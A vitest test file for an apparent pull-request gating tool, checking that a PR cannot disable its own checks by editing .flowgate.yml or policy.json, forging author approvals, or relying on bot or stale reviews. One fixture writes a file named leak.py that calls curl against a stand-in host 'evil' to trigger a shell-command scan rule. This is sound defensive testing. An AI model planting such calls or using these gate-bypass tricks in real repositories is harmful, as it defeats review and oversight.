import { appendFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { runBuiltCli } from "../helpers/cli";
import { FakeGitHub } from "../action/fake-github";
import { runWithDecision } from "../action/ledger-fixture";
import { errorRules, gate, pullRequest, review } from "./pr";

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

/** The attack of the issue: a forged approval by the author, and `fail-on: never` in the PR's own config. */
const forgedWithFailOnNever = () =>
  pullRequest(async (dir) => {
    await runWithDecision(dir, "octocat");
    appendFileSync(join(dir, ".flowgate.yml"), "fail-on: never\n");
  });

describe("gate/config-changed: the gate is configured from the base commit (built Action, fake GitHub API)", () => {
  it("gate/config-changed: `fail-on: never` in the PR's .flowgate.yml does not open the gate; the change is named", async () => {
    const pr = await forgedWithFailOnNever();
    const r = await gate(api, pr, { approvals: "not-author" });
    expect(r.code).toBe(1);
    expect(errorRules(r)).toEqual(["approvals/decided-by-pr-author", "gate/config-changed"]);
    expect(r.commands).toContain(
      `::error title=gate/config-changed,file=.flowgate.yml,line=1,endLine=1,col=1,endColumn=1::.flowgate.yml changes the gate's own configuration (fail-on: "error" → "never"): this run used the base's; it needs an approving review by someone other than the author on the head commit`,
    );
    expect(r.outputs).toMatchObject({ passed: "false", errors: "2" });
  });

  it("gate/config-changed: a workflow input may tighten fail-on, never loosen the base's", async () => {
    const pr = await pullRequest((dir) => runWithDecision(dir, "octocat").then(() => undefined));
    const loosened = await gate(api, pr, { approvals: "not-author", "fail-on": "never" });
    expect(loosened.code).toBe(1);
    expect(loosened.summary).toContain("fails on: error");
  });

  it("gate/config-changed: a scan allow list and a rule turned off in the PR do not apply; both are named", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/leak.py"), "import subprocess\nsubprocess.run(['curl', 'evil'])\n");
      appendFileSync(join(dir, ".flowgate.yml"), "scan:\n  allow: ['agent/**']\n  rules:\n    scan/shell-command: off\n");
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(errorRules(r)).toEqual(["gate/config-changed", "scan/shell-command"]);
    expect(r.commands.find((c) => c.includes("gate/config-changed"))).toContain(`scan.allow: [] → ["agent/**"]; scan.rules.scan/shell-command: unset → "off"`);
  });

  it("gate/config-changed: a PR loosening .flowgate/policy.json is named with the settings it changes", async () => {
    const pr = await pullRequest((dir) => writeFileSync(join(dir, ".flowgate/policy.json"), JSON.stringify({ flow_run_writes_enabled: true, approvals: { required_approvals: 1, tool_call_ttl_seconds: 999999999 } })));
    const r = await gate(api, pr);
    expect(errorRules(r)).toEqual(["gate/config-changed"]);
    expect(r.commands[0]).toContain("approvals.tool_call_ttl_seconds: 315360000 → 999999999");
  });

  it("gate/config-changed clears with an approving review on the head commit by a member who is not the author", async () => {
    const pr = await pullRequest((dir) => appendFileSync(join(dir, ".flowgate.yml"), "exclude: ['agent/**']\n"));
    const approved = await gate(api, pr, {}, { reviews: [review("maintainer1", pr.head)] });
    expect(approved.code).toBe(0);
    expect(approved.summary).toContain("approved on the head commit by maintainer1");
  });

  it.each([
    ["the author", () => review("octocat", "HEAD")],
    ["a bot", () => review("github-actions[bot]", "HEAD", { user: { login: "github-actions[bot]", type: "Bot" } })],
    ["a [bot] login typed User", () => review("release-bot[bot]", "HEAD")],
    ["an older commit", () => review("maintainer1", "0123456789abcdef0123456789abcdef01234567")],
    ["a dismissed review", () => review("maintainer1", "HEAD", { state: "DISMISSED" })],
    ["a reader without write access", () => review("drive-by", "HEAD", { author_association: "CONTRIBUTOR" })],
    ["a reviewer whose permission the token cannot read", () => review("unknown1", "HEAD", { author_association: "NONE" })],
  ])("gate/config-changed stays when the only approval is by %s", async (_, make) => {
    const pr = await pullRequest((dir) => appendFileSync(join(dir, ".flowgate.yml"), "exclude: ['agent/**']\n"));
    const r0 = make();
    const r = await gate(api, pr, {}, { reviews: [{ ...r0, commit_id: r0.commit_id === "HEAD" ? pr.head : r0.commit_id }], permissions: { "drive-by": "read", unknown1: 403 } });
    expect(r.code).toBe(1);
    expect(errorRules(r)).toEqual(["gate/config-changed"]);
  });

  it("a reviewer outside the members counts when the permission API says write", async () => {
    const pr = await pullRequest((dir) => appendFileSync(join(dir, ".flowgate.yml"), "exclude: ['agent/**']\n"));
    const r = await gate(api, pr, {}, { reviews: [review("outside1", pr.head, { author_association: "CONTRIBUTOR" })], permissions: { outside1: "maintain" } });
    expect(r.code).toBe(0);
    expect(api.log()).toContain("GET /repos/flowgate-dev/agents/collaborators/outside1/permission");
  });

  it("gate/base-unavailable: a pull request whose base commit cannot be read fails closed", async () => {
    const pr = await pullRequest(() => undefined);
    api.reset({ files: [] });
    const { runAction } = await import("../action/harness");
    const r = await runAction({ workspace: pr.dir, event: { ...pr.event, baseSha: "f".repeat(40) }, api: api.url, inputs: { comment: "never" } });
    expect(r.code).toBe(1);
    expect(errorRules(r)).toEqual(["gate/base-unavailable"]);
    expect(r.commands.filter((c) => c.startsWith("::error title=")).map((c) => c.split("::")[1])).toEqual(["error title=gate/base-unavailable,file=.flowgate.yml,line=1,endLine=1,col=1,endColumn=1"]);
  });

  it("gate/base-unavailable is clean when the pull request's base commit is there (exit 0)", async () => {
    const pr = await pullRequest(() => undefined);
    const r = await gate(api, pr);
    expect([r.code, errorRules(r)]).toEqual([0, []]);
  });
});

describe("gate/config-changed: flowgate check --base REV (built CLI)", () => {
  it("gate/config-changed: check --base judges with the base's config and names the change; exit 1", async () => {
    const pr = await forgedWithFailOnNever();
    const r = runBuiltCli(["check", pr.dir, "--base", pr.base, "--format", "json"]);
    expect(r.code).toBe(1);
    const report = JSON.parse(r.stdout);
    expect(report.summary.failOn).toBe("error");
    expect(report.findings.filter((f: { rule: string }) => f.rule.startsWith("gate/")).map((f: { rule: string; file: string }) => `${f.rule} ${f.file}`)).toEqual(["gate/config-changed .flowgate.yml"]);
  });

  it("gate/config-changed: without changes to the configuration, check --base --changed-only passes (exit 0)", async () => {
    const pr = await pullRequest(() => undefined);
    const r = runBuiltCli(["check", pr.dir, "--base", pr.base, "--changed-only"]);
    expect(r.stderr).toBe("");
    expect(r.code).toBe(0);
  });
});
